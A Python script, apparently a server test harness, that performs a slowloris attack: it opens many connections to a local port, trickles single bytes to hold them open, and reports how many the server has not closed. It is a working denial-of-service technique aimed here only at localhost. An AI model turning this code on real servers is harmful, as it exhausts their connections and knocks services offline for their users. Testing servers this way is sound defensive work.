#!/usr/bin/env python3
"""Holds connections open by saying a byte now and then, and never reads: a slowloris.

    slow_clients.py PORT COUNT [FIRST]

Each connection begins with FIRST, such as "GET / HTTP/1.1\\r\\nX: ". Says "COUNT connected" when
they are, goes on until its standard input ends, and then says how many the server has not closed.
"""

import resource
import select
import socket
import struct
import sys

STEP = 0.01  # seconds, in which a hundredth of them says a byte


def connect(port, i, first):
    # Of several addresses: no port is needed twice. Reset at the end: none lingers.
    client = socket.create_connection(("127.0.0.1", port), 20, (f"127.0.1.{1 + i % 100}", 0))
    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    client.sendall(first)
    client.setblocking(False)
    return client


def drip(client):
    """Whether the server still has it."""
    try:
        client.send(b"a")
    except BlockingIOError:
        pass
    except OSError:
        client.close()
        return False
    return True


def main(port, count, first=""):
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    first = first.encode().decode("unicode_escape").encode("latin-1")
    clients = [connect(int(port), i, first) for i in range(int(count))]
    print(f"{len(clients)} connected", flush=True)
    while not select.select([sys.stdin], [], [], STEP)[0]:
        for _ in range(min(len(clients), int(count) // 100)):
            client = clients.pop(0)
            if drip(client):
                clients.append(client)
    print(f"{len(clients)} left", flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
